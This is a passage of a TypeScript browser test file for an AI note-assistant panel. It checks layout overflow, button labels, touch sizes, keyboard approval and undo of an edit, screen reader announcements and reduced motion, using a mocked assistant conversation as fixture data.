          content: 'I look.',
          think: 'The user wants open tasks.',
          tool_calls: [
            { id: 'c1', name: 'list', arguments: { path: 'Projects' } },
            { id: 'c2', name: 'read', arguments: { path: 'Daily/a-very-long-name-without-any-place-to-break-it.md' } },
          ],
        },
        { role: 'tool', content: 'Projects/Garden.md', tool_call_id: 'c1' },
        { role: 'tool', content: 'None.', tool_call_id: 'c2', tool_result: { status: 'error' } },
        {
          role: 'assistant',
          content:
            'In **three notes**:\n\n1. [[Garden]]: by *March*\n   - [ ] order seeds\n   - [x] spade\n\n| note | words | when | more | even more |\n|---|---:|---|---|---|\n| Garden | 1,204 | today | yes | a-long-word-in-a-table |\n\n> Plant garlic early.\n\n```js\nconst beds = notes.filter((note) => note.tags.includes("garden"));\n```\n\nhttps://example.org/a/very/long/address/without/any/place/to/break/it\n\nShall I write a plan?',
        },
      ],
    },
  ],
  replies: [edit, { text: 'Done.' }],
} as const satisfies PageOptions;

/** What is wider than its place, by its classes; what scrolls by itself is not. */
const tooWide = (page: Page) =>
  page.evaluate(() =>
    [...document.querySelectorAll('.dragoman-panel, .dragoman-panel *')]
      .filter(
        (element) =>
          element.closest('pre, .dragoman-wide, .dragoman-hidden, svg') === null && element.checkVisibility(),
      )
      .filter((element) => element.getBoundingClientRect().right > window.innerWidth + 1)
      .map(({ className }) => String(className)),
  );

describe.each(Object.entries(looks))('as %s', (name, look) => {
  it.each(states)('%s: fits, every button has a name, and fingers find it', async (state, reach) => {
    const page = await open({ ...rich, ...look });
    await reach(page);
    await page.waitForTimeout(200);
    await browser.picture(page, `${state}-${name}`);
    expect(await tooWide(page)).toEqual([]);
    expect(await browser.barriers(page)).toEqual([]);
    const buttons = await page.getByRole('button').all();
    expect(buttons.length).toBeGreaterThan(2);
    const names = await Promise.all(buttons.map(nameOf));
    expect(names).not.toContain('');
    if (name !== 'phone') return;
    const boxes = await Promise.all(buttons.map((each) => each.boundingBox()));
    const small = boxes.map((box, at) => [names[at], box?.height ?? 99]).filter(([, height]) => Number(height) < 36);
    expect(small).toEqual([]);
  });
});

const nameOf = (locator: Locator) =>
  locator.evaluate((element) => (element.getAttribute('aria-label') ?? element.textContent ?? '').trim());

describe('for everybody', () => {
  it('a task is asked, allowed, taken back and followed with the keyboard alone', async () => {
    const page = await open({ notes: { 'Garden.md': todo }, replies: [edit, { text: 'Done.' }] });
    await page.keyboard.type('Tick off beds.');
    await page.keyboard.press('Enter');
    await button(page, 'Apply').waitFor();
    const focused = () =>
      page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent);
    expect(await focused()).toBe('Change Garden.md?');
    for (let tab = 0; tab < 2; tab += 1) await page.keyboard.press('Tab');
    expect(await focused()).toBe('Apply');
    await page.keyboard.press('Enter');
    await log(page).getByText('Done.').waitFor();
    expect(await focused()).toBe('Message');
    const passed: string[] = [];
    for (let tab = 0; tab < 12 && !passed.includes('Undo: edited Garden.md'); tab += 1) {
      await page.keyboard.press('Shift+Tab');
      passed.push((await focused()) ?? '');
    }
    await page.keyboard.press('Enter');
    await lines(page).getByText('taken back').waitFor();
    expect(await read(page, 'Garden.md')).toBe(todo);
  });

  it('a question leaves the focus where somebody writes', async () => {
    const page = await open({ notes: { 'Garden.md': todo } });
    await say(page, 'Tick off beds.');
    await field(page).fill('And then');
    await page.evaluate((call) => {
      window.world.give(
        { type: 'tool-call-start', block: 0, callId: 'c', name: 'line_edit' },
        { type: 'tool-call-end', block: 0, arguments: JSON.stringify(call) },
        { type: 'message-end', finishReason: 'tool-calls' },
      );
    }, edit.calls[0][1]);
    await button(page, 'Apply').waitFor();
    expect(await field(page).evaluate((element) => element === document.activeElement)).toBe(true);
    await page.keyboard.press('Control+Enter');
    expect(await read(page, 'Garden.md')).toBe(todo);
    await button(page, 'Cancel').click();
  });

  it('a screen reader is told of answers and questions, and not of every piece', async () => {
    const page = await open({ notes: { 'Garden.md': todo }, replies: [edit, { text: '**All** is done.' }] });
    expect(await log(page).getAttribute('aria-live')).toBe('off');
    await say(page, 'Tick off beds.');
    await button(page, 'Apply').waitFor();
    expect(await page.getByRole('alert').allInnerTexts()).toEqual(['Change Garden.md? Approve or reject.']);
    expect(await log(page).getAttribute('aria-busy')).toBe('true');
    await button(page, 'Apply').click();
    await idle(page);
    expect(await page.getByRole('status').innerText()).toBe('Answer: All is done.');
    expect(await log(page).getAttribute('aria-busy')).toBe('false');
  });

  it('nothing moves for whoever wants no motion', async () => {
    const page = await open({ reducedMotion: true });
    await say(page, 'Hello?');
    await button(page, 'Cancel').waitFor();
    const moving = await page.evaluate(() => document.getAnimations().length);
    expect(moving).toBe(0);
    await button(page, 'Cancel').click();
  });
});
